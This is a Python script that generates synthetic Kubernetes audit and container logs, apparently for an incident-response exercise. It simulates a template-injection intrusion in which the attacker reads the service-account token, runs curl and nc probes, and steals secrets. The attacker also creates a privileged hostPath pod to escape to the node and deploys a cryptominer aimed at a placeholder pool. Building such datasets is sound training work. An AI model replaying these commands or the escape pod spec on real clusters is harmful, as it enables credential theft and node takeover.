# Kubernetes audit (JSON lines) + container log in CRI layout
from common import *
R=random.Random(90606)
L=[];C=[]
def au(t,verb,user,res,name,ns,code,ip,ua='kubectl/v1.29.4 (linux/amd64)',sub=None,groups=None,obj=None,reason=None):
    o={'resource':res,'namespace':ns,'name':name,'apiVersion':'v1'}
    if sub:o['subresource']=sub
    o={k:v for k,v in o.items() if v}
    uri='/api/v1/'+(f'namespaces/{ns}/' if ns else '')+res+(f'/{name}' if name else '')+(f'/{sub}' if sub else '')
    d={'kind':'Event','apiVersion':'audit.k8s.io/v1','level':'Metadata' if not obj else 'RequestResponse','auditID':'%08x-%04x-4%03x'%(R.getrandbits(32),R.getrandbits(16),R.getrandbits(12)),'stage':'ResponseComplete','requestURI':uri,'verb':verb,'user':{'username':user,'groups':groups or ['system:authenticated']},'sourceIPs':[ip],'userAgent':ua,'objectRef':o,'responseStatus':{'code':code,**({'reason':reason} if reason else {})}}
    if obj:d['requestObject']=obj
    d['requestReceivedTimestamp']=f'{t:%Y-%m-%dT%H:%M:%S}.{R.randint(0,999999):06d}Z'; d['stageTimestamp']=f'{t:%Y-%m-%dT%H:%M:%S}.999999Z'
    d['annotations']={'authorization.k8s.io/decision':'forbid' if code==403 else 'allow'}
    L.append((t,json.dumps(d,separators=(',',':'))))
def c(t,m,st='stdout'): C.append((t,f'{t:%Y-%m-%dT%H:%M:%S}.{R.randint(0,10**9-1):09d}+00:00 {st} F {m}'))
a,b=dt('2026-10-19 00:00:00'),dt('2026-10-22 12:00:00')
for _ in range(1300):
    t=rnd_time(R,a,b); r=R.random()
    if r<.35: au(t,'get','system:serviceaccount:kube-system:metrics','nodes',R.choice(['wk-1','wk-2','wk-3']),None,200,'10.8.0.11','metrics-server/v0.7.1')
    elif r<.6: au(t,R.choice(['list','watch']),'system:serviceaccount:argocd:argocd-controller',R.choice(['pods','configmaps','services']),None,R.choice(['web','billing','kube-system']),200,'10.8.0.14','argocd-application-controller/v2.11')
    elif r<.75: au(t,'update','system:kube-scheduler','leases','kube-scheduler','kube-system',200,'10.8.0.2','kube-scheduler/v1.29.4')
    elif r<.85: au(t,'get','system:serviceaccount:billing:invoice-api','secrets','invoice-db','billing',200,'10.8.2.31','invoice-api/3.2')
    elif r<.95: au(t,'create','system:serviceaccount:argocd:argocd-controller','events','e%d'%R.randint(1,999),'web',201,'10.8.0.14','argocd-application-controller/v2.11')
    else: au(t,'get','oidc:mira.sato','pods','web-%d'%R.randint(1,4),'web',200,'172.20.5.8')
for s in ('2026-10-19 09:12:44','2026-10-20 13:30:02'): au(dt(s),'create','oidc:mira.sato','pods','web-2','web',101,'172.20.5.8',sub='exec')
au(dt('2026-10-20 13:44:10'),'delete','oidc:mira.sato','pods','web-4','web',200,'172.20.5.8')
au(dt('2026-10-21 07:05:00'),'get','oidc:jens.brandt','secrets','invoice-db','billing',403,'172.20.5.19',reason='Forbidden')
# container log of web-3: node app
for _ in range(700):
    t=rnd_time(R,a,b); c(t,f'[http] {R.choice(["GET","GET","GET","POST"])} {R.choice(["/","/api/products","/api/cart","/healthz"])} {R.choice([200,200,200,200,304,404])} {R.randint(2,180)}ms ip=10.8.0.{R.randint(60,75)}')
for _ in range(25): c(rnd_time(R,a,b),'[cache] WARN redis timeout after 500ms, falling back','stderr')
# exploit: render-endpoint template injection 21 Oct 18:22Z
t=dt('2026-10-21 18:22:06')
for i in range(31):
    c(t+timedelta(seconds=i*4),f'[http] POST /api/render {R.choice([500,500,400])} {R.randint(5,40)}ms ip=10.8.0.61 xff=146.70.81.33')
    if i%3==0: c(t+timedelta(seconds=i*4),'[render] ERROR TemplateError: unexpected token near "{{"','stderr')
c(dt('2026-10-21 18:24:31'),'[http] POST /api/render 200 612ms ip=10.8.0.61 xff=146.70.81.33')
c(dt('2026-10-21 18:24:31'),'[render] child_process exec: cat /var/run/secrets/kubernetes.io/serviceaccount/token','stderr')
c(dt('2026-10-21 18:25:10'),'[http] POST /api/render 200 1204ms ip=10.8.0.61 xff=146.70.81.33')
c(dt('2026-10-21 18:25:10'),'[render] child_process exec: curl -sk https://10.96.0.1/version','stderr')
c(dt('2026-10-21 18:51:02'),'[http] POST /api/render 200 330ms ip=10.8.0.61 xff=146.70.81.33')
c(dt('2026-10-21 18:51:02'),'[render] child_process exec: nc -w2 10.8.2.31 5432','stderr')
c(dt('2026-10-21 18:51:04'),'[render] child exited code=1 signal=null','stderr')
S='system:serviceaccount:web:web-frontend'; I='146.70.81.33'; ua='kubectl/v1.31.0 (windows/amd64)'
def k(s,v,res,name,ns,code,**kw): au(dt('2026-10-21 '+s),v,kw.pop('user',S),res,name,ns,code,kw.pop('ip',I),kw.pop('ua',ua),**kw)
F=dict(reason='Forbidden')
k('18:31:12','create','selfsubjectrulesreviews',None,None,201)
k('18:31:40','list','secrets',None,'kube-system',403,**F); k('18:31:52','list','secrets',None,'billing',403,**F)
k('18:32:05','list','secrets',None,'web',200); 
for i,n in enumerate(['web-tls','registry-pull','stripe-key']): k(f'18:32:{20+i*6}','get','secrets',n,'web',200)
k('18:33:11','list','nodes',None,None,403,**F); k('18:33:30','list','pods',None,'web',200)
k('18:34:02','create','clusterrolebindings','web-admin',None,403,**F)
priv={'spec':{'hostPID':True,'containers':[{'name':'x','image':'docker.io/library/alpine:3.20','securityContext':{'privileged':True},'volumeMounts':[{'name':'h','mountPath':'/host'}]}],'volumes':[{'name':'h','hostPath':{'path':'/'}}],'nodeName':'wk-1'}}
k('18:36:20','create','pods','node-probe','kube-system',403,obj=priv,**F)
priv2=json.loads(json.dumps(priv)); priv2['spec']['nodeName']='wk-2'
k('18:37:45','create','pods','node-probe','web',201,obj=priv2)
k('18:38:30','create','pods','node-probe','web',101,sub='exec')
k('18:41:07','create','pods','node-probe','web',101,sub='exec')
N='system:node:wk-2'; g=['system:nodes','system:authenticated']
for s,n,ns in (('18:44:50','invoice-db','billing'),('18:45:02','argocd-initial-admin-secret','argocd'),):
    k(s,'get','secrets',n,ns,200 if n=='invoice-db' else 403,user=N,groups=g,**({} if n=='invoice-db' else F))
k('18:45:30','list','secrets',None,'kube-system',403,user=N,groups=g,**F)
mn={'spec':{'replicas':6,'template':{'spec':{'containers':[{'name':'m','image':'registry.evilpool.example/cpu/xm:6','args':['-o','pool.evilpool.example:3333']}]}}}}
k('18:52:18','create','deployments','cache-warmer','web',201,obj=mn)
k('18:55:40','delete','pods','node-probe','web',200)
k('18:56:03','delete','events',None,'web',403,**F)
# response next day
au(dt('2026-10-22 07:14:09'),'delete','oidc:mira.sato','deployments','cache-warmer','web',200,'172.20.5.8')
au(dt('2026-10-22 07:16:44'),'delete','oidc:mira.sato','secrets','web-frontend-token','web',200,'172.20.5.8')
au(dt('2026-10-22 07:31:20'),'list',S,'pods',None,'web',401,I,ua,reason='Unauthorized')
au(dt('2026-10-22 07:40:00'),'patch','oidc:mira.sato','nodes','wk-2',None,200,'172.20.5.8',obj={'spec':{'unschedulable':True}})
L.sort(key=lambda x:x[0]);C.sort(key=lambda x:x[0])
write('k8s_audit.jsonl',[x for _,x in L]);write('web-3_container.log',[x for _,x in C])
